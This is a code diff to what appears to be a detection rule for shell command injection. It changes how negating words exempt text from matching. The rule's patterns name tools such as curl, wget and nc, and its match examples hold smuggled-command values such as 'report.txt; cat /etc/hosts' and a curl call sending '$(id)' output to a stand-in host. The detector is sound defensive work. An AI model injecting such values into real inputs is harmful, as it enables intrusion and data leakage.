@@ -50,8 +50,9 @@ export default defineRule({
     /`cat\s{1,2}\/etc\/[a-z]{2,20}`/,
     /%0a(?:id|cat|curl|wget|whoami|nc)\b/,
   ],
+  unlessNegated: true,
   unless: [
-    /\b(?:explain|what (?:is|are|does)|semantics|never|do not|don't|prevents?|prevented|preventing|block(?:s|ed)?|reject(?:s|ed)?|detects?|escap(?:e|es|ed|ing)|sanitiz\w{0,4}|protects?|vulnerab\w{0,8}|such as|e\.g|for example|attempts?|disallow\w{0,3}|denied|is (?:the|an|a)|lives at|why|logs?|attack)\b/,
+    /\b(?:explain|what (?:is|are|does)|semantics|prevents?|prevented|preventing|block(?:s|ed)?|reject(?:s|ed)?|detects?|escap(?:e|es|ed|ing)|sanitiz\w{0,4}|protects?|vulnerab\w{0,8}|such as|e\.g|for example|attempts?|disallow\w{0,3}|denied|is (?:the|an|a)|lives at|why|logs?|attack)\b/,
   ],
   match: ['report.txt; cat /etc/hosts', 'x && curl http://a.example/$(id)', 'name=$(whoami)', 'a|whoami'],
   clean: [
